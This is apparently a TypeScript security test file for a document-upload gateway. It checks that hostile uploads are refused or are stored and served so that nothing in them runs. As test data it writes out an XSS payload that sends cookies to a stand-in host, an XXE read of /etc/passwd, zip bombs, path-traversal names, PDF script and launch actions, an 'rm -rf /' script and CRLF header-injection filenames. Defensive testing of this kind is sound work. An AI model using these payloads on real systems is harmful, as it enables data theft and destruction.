import { readdir } from 'node:fs/promises';
import { deflateSync, gzipSync } from 'node:zlib';
import { sql } from 'drizzle-orm';
import { expect, test } from 'vitest';
import { rows } from '../../gateway/db/client.ts';
import { appForTest, multipart } from '../support/app.ts';
import { aPdf } from './support/bytes.ts';
import { DOCX, XLSX, zip } from './support/zip.ts';

const GIGABYTE = 1024 ** 3;
const text = (value: string) => Buffer.from(value);
const pdf = aPdf(500);
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);
/** A JPEG of so many pixels each way, as hex; `before` stands in front of the segment that says so. */
const jpegOf = (side: string, before = '') =>
  Buffer.from(
    `ffd8ffe000104a46494600010100000100010000${before}ffc0000b08${side}${side}01011100ffda0008010100003f0000ffd9`,
    'hex',
  );
const jpeg = jpegOf('0001');
/** A PDF with these objects, and one whose object stream is this. */
const pdfWith = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    text('%PDF-1.7\n1 0 obj<<>>endobj\n'),
    ...objects.map((one) => (typeof one === 'string' ? text(one) : one)),
    text('\n%%EOF'),
  ]);
const packed = (dictionary: string, data: Buffer) =>
  pdfWith(`2 0 obj<<${dictionary}>>stream\n`, data, '\nendstream endobj\n');
const SCRIPT = text('3 0 <</S/JavaScript/JS(x)>>');
/** The directory says that the parts are packed by a method that we do not unpack. */
function packedBy(method: number, archive: Buffer): Buffer {
  for (let at = archive.indexOf('PK\x01\x02'); at >= 0; at = archive.indexOf('PK\x01\x02', at + 4))
    if (archive.readUInt16LE(at + 10) === 8) archive.writeUInt16LE(method, at + 10);
  return archive;
}
/** The directory says that every part is empty. */
function understated(archive: Buffer): Buffer {
  for (let at = archive.indexOf('PK\x01\x02'); at >= 0; at = archive.indexOf('PK\x01\x02', at + 4))
    archive.fill(0, at + 24, at + 28);
  return archive;
}
const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
const types = { name: '[Content_Types].xml', bytes: DOCX };
const sheet = { name: '[Content_Types].xml', bytes: XLSX };
const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

/** What no gateway should keep: kind, name, bytes. */
const REFUSED: readonly (readonly [what: string, name: string, bytes: Buffer])[] = [
  ['nothing at all', 'vazio.pdf', Buffer.alloc(0)],
  ['one byte', 'um.pdf', Buffer.from([0x25])],
  ['one byte of a PNG', 'um.png', png.subarray(0, 1)],
  ['zeros', 'zeros.pdf', Buffer.alloc(4096)],
  ['text called PDF', 'texto.pdf', text('this is no document')],
  ['text', 'texto.txt', text('this is no document')],
  ['a PNG called PDF', 'foto.pdf', png],
  ['a PDF called PNG', 'documento.png', pdf],
  ['a PDF called DOCX', 'documento.docx', pdf],
  ['a PDF called HTML', 'documento.html', pdf],
  ['a PDF without extension', 'documento', pdf],
  ['a PDF called EXE', 'documento.pdf.exe', pdf],
  ['HTML', 'pagina.html', text(`<!doctype html><html>${script}</html>`)],
  ['HTML called PDF', 'pagina.pdf', text(`<!doctype html><html>${script}</html>`)],
  ['HTML called XML', 'pagina.xml', text(`<html>${script}</html>`)],
  ['HTML called XML, in capitals', 'pagina.xml', text(`<HTML><BODY>${script}</BODY></HTML>`)],
  ['XHTML', 'pagina.xml', text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`)],
  ['SVG with a script', 'desenho.svg', text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`)],
  [
    'SVG called XML',
    'desenho.xml',
    text(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
  ],
  ['SVG called PNG', 'desenho.png', text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`)],
  [
    'XML with a stylesheet',
    'nota.xml',
    text('<?xml version="1.0"?><?xml-stylesheet href="//evil.example/x.xsl"?><a/>'),
  ],
  [
    'XML with an outside entity',
    'nota.xml',
    text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
  ],
  ['a billion laughs', 'nota.xml', text(`<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">${laughs}]><l>&l9;</l>`)],
  [
    'XML whose doctype hides behind spaces',
    'nota.xml',
    text(`<?xml version="1.0"?>${' '.repeat(5000)}<!DOCTYPE a><a/>`),
  ],
  [
    'XML that calls itself HTML later',
    'nota.xml',
    text(`<nota>${' '.repeat(5000)}<h:html xmlns:h="http://www.w3.org/1999/xhtml"/></nota>`),
  ],
  ['a stylesheet', 'estilo.xml', text('<xsl:stylesheet version="1.0"><xsl:template match="/"/></xsl:stylesheet>')],
  ['JSON called XML', 'dados.xml', text('{"a":1}')],
  ['a ZIP', 'arquivos.zip', zip([{ name: 'a.txt', bytes: text('a') }])],
  ['a ZIP called DOCX', 'arquivos.docx', zip([{ name: 'a.txt', bytes: text('a') }])],
  ['a ZIP with a way out', 'fuga.docx', zip([{ name: '../../../../tmp/prumo-evil', bytes: text('a') }])],
  ['a DOCX called XLSX', 'texto.xlsx', zip([types])],
  ['an XLSX called PDF', 'tabela.pdf', zip([sheet])],
  ['a bomb where the type is read', 'bomba.docx', zip([{ name: '[Content_Types].xml', zeros: GIGABYTE }])],
  ['a bomb called PDF', 'bomba.pdf', zip([{ name: 'a', zeros: GIGABYTE }])],
  ['GZIP', 'arquivo.gz', gzipSync(Buffer.alloc(1_000_000))],
  ['GZIP called PDF', 'arquivo.pdf', gzipSync(Buffer.alloc(1_000_000))],
  ['HEIC', 'foto.heic', Buffer.concat([Buffer.from('00000018667479706865696300000000', 'hex'), text('mif1heic')])],
  [
    'HEIC called JPEG',
    'foto.jpg',
    Buffer.concat([Buffer.from('00000018667479706865696300000000', 'hex'), text('mif1heic')]),
  ],
  ['GIF with a script', 'foto.gif', text(`GIF89a/*${script}*/=1;`)],
  ['GIF called JPEG', 'foto.jpg', text(`GIF89a/*${script}*/=1;`)],
  ['an EXE', 'programa.exe', Buffer.concat([text('MZ'), Buffer.alloc(200)])],
  ['an EXE called PDF', 'programa.pdf', Buffer.concat([text('MZ'), Buffer.alloc(200)])],
  ['an ELF called PDF', 'programa.pdf', Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(200)])],
  ['a shell script', 'programa.sh', text('#!/bin/sh\nrm -rf /\n')],
  ['an old DOC', 'texto.doc', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])],
  ['RTF called DOCX', 'texto.docx', text('{\\rtf1 hello}')],
  [
    'PDF with a script of its own',
    'acao.pdf',
    Buffer.concat([pdf, text('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')]),
  ],
  ['a PNG that is cut off', 'cortado.png', png.subarray(0, 40)],
  ['a DOCX that would unpack to 3 GB', 'bomba.docx', zip([types, { name: 'word/a.xml', zeros: 3 * GIGABYTE }])],
  ['an XLSX that would unpack to 3 GB', 'bomba.xlsx', zip([sheet, { name: 'xl/a.xml', zeros: 3 * GIGABYTE }])],
  ['a PDF of five bytes', 'curto.pdf', text('%PDF-')],
  [
    'a PDF that starts a program',
    'lanca.pdf',
    Buffer.concat([text('%PDF-1.7\n1 0 obj<</S/Launch/F(cmd)>>endobj\n%%EOF')]),
  ],
  [
    'a PDF that hides a script by escapes',
    'escondido.pdf',
    text('%PDF-1.7\n1 0 obj<</S/Java#53cript/#4aS(x)>>endobj\n%%EOF'),
  ],
  ['a PDF that carries a file', 'anexo.pdf', text('%PDF-1.7\n1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj\n%%EOF')],
  [
    'a PDF whose script is in a packed object stream',
    'pacote.pdf',
    Buffer.concat([
      text('%PDF-1.7\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n'),
      deflateSync(text('2 0 <</S/JavaScript/JS(x)>>')),
      text('\nendstream endobj\n%%EOF'),
    ]),
  ],
  [
    'a PDF whose script is behind the word stream in a string',
    'palavra.pdf',
    pdfWith('2 0 obj(stream)endobj 3 0 obj<</S/JavaScript/JS(x)>>endobj 4 0 obj<<>>stream\nx\nendstream endobj'),
  ],
  [
    'a PDF whose script lies in a stream, for its table to point to',
    'dentro.pdf',
    pdfWith('2 0 obj<</Length 60>>stream\n3 0 obj<</S/JavaScript/JS(x)>>endobj\nendstream endobj'),
  ],
  [
    'an object stream whose type is escaped',
    'tipo.pdf',
    packed('/Type/Obj#53tm/Filter/FlateDecode', deflateSync(SCRIPT)),
  ],
  ['an object stream without a type', 'semtipo.pdf', packed('/N 1/First 4/Filter/FlateDecode', deflateSync(SCRIPT))],
  [
    'an object stream behind a name',
    'frase.pdf',
    packed('/Type/ObjStm/X(stream)/Filter/FlateDecode', deflateSync(SCRIPT)),
  ],
  [
    'an object stream with a wrong checksum',
    'soma.pdf',
    packed('/Type/ObjStm/Filter/FlateDecode', Buffer.concat([deflateSync(SCRIPT).subarray(0, -4), Buffer.alloc(4)])),
  ],
  [
    'an object stream that is packed twice',
    'duas.pdf',
    packed('/Type/ObjStm/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(SCRIPT))),
  ],
  [
    'an object stream that is packed in another way',
    'outra.pdf',
    packed('/Type/ObjStm/Filter/ASCIIHexDecode', text(SCRIPT.toString('hex'))),
  ],
  ['a JPEG of 900 megapixels behind a filler', 'cheia.jpg', jpegOf('7530', 'ff')],
  ['a JPEG of 900 megapixels behind other bytes', 'lixo.jpg', jpegOf('7530', '000000')],
  ['a JPEG without a picture', 'oca.jpg', Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb004300ffd9', 'hex')],
  [
    'a DOCX packed by a method of its own',
    'metodo.docx',
    packedBy(9, zip([types, { name: 'word/a.xml', zeros: 1000 }])),
  ],
  ['a JPEG that is cut off', 'cortada.jpg', jpeg.subarray(0, -2)],
  [
    'a PNG of 900 megapixels',
    'enorme.png',
    Buffer.concat([png.subarray(0, 16), Buffer.from('0000753000007530', 'hex'), png.subarray(24)]),
  ],
  ['a DOCX with a macro', 'macro.docx', zip([types, { name: 'word/vbaProject.bin', bytes: text('x') }])],
  ['a DOCX with a way out', 'saida.docx', zip([types, { name: '../../../../tmp/prumo-evil', bytes: text('x') }])],
  [
    'a DOCX of 60,000 parts',
    'muitas.docx',
    zip([types, ...Array.from({ length: 60_000 }, (_, n) => ({ name: `word/${n}`, bytes: text('') }))]),
  ],
  [
    'a DOCX that understates what it unpacks to',
    'modesto.docx',
    understated(zip([types, { name: 'word/a.xml', zeros: GIGABYTE }])),
  ],
  ['a name of dots', '..', pdf],
  ['a name of an extension alone', '.pdf', pdf],
  ['a name longer than any', `${'a'.repeat(300)}.pdf`, pdf],
];

/** What is a document of its kind, and wicked: kept, but served so that nothing of it runs. */
const KEPT: readonly (readonly [what: string, name: string, bytes: Buffer])[] = [
  [
    'a PDF of packed objects',
    'pacotes.pdf',
    packed('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync(text('3 0 <<>>'))),
  ],
  ['an encrypted PDF', 'cifrado.pdf', packed('/Type/ObjStm/Filter/FlateDecode/Encrypt 9 0 R', Buffer.alloc(50, 7))],
  ['PDF and HTML in one', 'dois.pdf', Buffer.concat([pdf, text(`<html>${script}</html>`)])],
  ['a JPEG with HTML behind it', 'foto.jpg', Buffer.concat([jpeg, text(`<html>${script}</html>`)])],
  ['a way out of the folder', '../../../../tmp/prumo-evil.pdf', pdf],
  ['a way out, of Windows', '..\\..\\windows\\prumo-evil.pdf', pdf],
  ['an absolute path', '/etc/cron.d/prumo-evil.pdf', pdf],
  ['a drive', 'C:\\prumo-evil.pdf', pdf],
  ['a name of a device', 'CON.pdf', pdf],
  ['a name with a script', '<img src=x onerror=alert(1)>.pdf', pdf],
  ['a name that reads backwards', 'relat\u202efdp.exe.pdf', pdf],
  ['a name with NUL', 'a\u0000b.pdf', pdf],
  ['a name with accents and signs', 'ação ‘é’ 100% ; x=y.pdf', pdf],
];

test('S5 hostile files are refused, or kept and served so that nothing of them runs', async () => {
  expect(REFUSED.length + KEPT.length).toBeGreaterThanOrEqual(40);
  const app = await appForTest();
  const pendencyId = await app.build.aPendency();
  let peak = 0;
  const send = async (name: string, bytes: Buffer, contentType = 'application/pdf') => {
    const body = multipart([{ name, bytes, contentType }], { issueDate: '2026-01-10' });
    const reply = await app.as('supplier', { method: 'POST', url: `/pendencies/${pendencyId}/documents`, ...body });
    peak = Math.max(peak, process.memoryUsage().rss);
    return reply;
  };

  // the first calls load code and grow the database's memory: what counts is what the files add to that
  for (const [, name, bytes] of REFUSED.slice(0, 3)) await send(name, bytes);
  const before = process.memoryUsage().rss;
  peak = before;

  const taken: string[] = [];
  for (const [what, name, bytes] of REFUSED) {
    const { statusCode } = await send(name, bytes);
    if (statusCode < 400 || statusCode >= 500) taken.push(`${what}: ${statusCode}`);
  }
  expect(taken).toEqual([]);
  expect(await readdir(`${app.dataDir}/files`, { recursive: true })).toEqual(['.staging']);

  for (const [what, name, bytes] of KEPT) {
    const reply = await send(name, bytes, 'text/html');
    expect(reply.statusCode, what).toBe(201);
    const [document] = reply.json<{ id: number; name: string }[]>();
    // biome-ignore lint/suspicious/noControlCharactersInRegex: none may be left
    expect(document?.name, what).not.toMatch(/[/\\\u0000-\u001f\u202a-\u202e<>"]/);
    for (const disposition of ['attachment', 'inline']) {
      const url = `/documents/${document?.id}/download?disposition=${disposition}`;
      const { headers, statusCode } = await app.as('supplier', { method: 'GET', url });
      expect(statusCode, what).toBe(200);
      const type = String(headers['content-type']);
      // Only what a browser shows by itself, and never as a page, may be shown in it.
      const mayBeShown = disposition === 'inline' && /^(application\/pdf|image\/(png|jpeg))$/.test(type);
      expect(String(headers['content-disposition']).split(';')[0], what).toBe(mayBeShown ? 'inline' : 'attachment');
      expect(type, what).not.toMatch(/html|svg|javascript/);
      expect(headers['x-content-type-options'], what).toBe('nosniff');
      expect(headers['content-security-policy'], what).toBe("default-src 'none'; sandbox");
      expect(headers['content-disposition'], what).not.toMatch(/[\r\n]/);
    }
  }

  // The bytes stand under names of ours alone.
  const found = await readdir(`${app.dataDir}/files/documents`, { recursive: true, withFileTypes: true });
  const stored = found.filter((one) => one.isFile()).map(({ name }) => name);
  expect(stored).toHaveLength(KEPT.length);
  expect(stored.filter((name) => !/^[0-9a-f-]{36}$/.test(name))).toEqual([]);
  const known = await rows<{ n: number }>(app.db, sql`select count(*)::int as n from documents`);
  expect(known[0]?.n).toBe(KEPT.length);
  expect(peak - before).toBeLessThan(200 * 1024 * 1024);
});

test('S5 a name that would write headers of its own harms nothing', async () => {
  const app = await appForTest();
  const id = await app.build.aPendency();
  for (const name of ['a\r\nSet-Cookie: x=y\r\n\r\n.pdf', 'a".pdf"; filename="b.exe', 'a\nb.pdf']) {
    const body = multipart([{ name, bytes: pdf }], { issueDate: '2026-01-10' });
    const reply = await app.as('supplier', { method: 'POST', url: `/pendencies/${id}/documents`, ...body });
    expect(reply.statusCode).toBeLessThan(500);
    for (const document of reply.statusCode === 201 ? reply.json<{ id: number }[]>() : []) {
      const { headers } = await app.as('supplier', { method: 'GET', url: `/documents/${document.id}/download` });
      expect(headers['set-cookie']).toBeUndefined();
      expect(headers['content-disposition']).toMatch(/^attachment; filename="[^"\r\n]*"; filename\*=UTF-8''[^"\r\n]*$/);
    }
  }
});
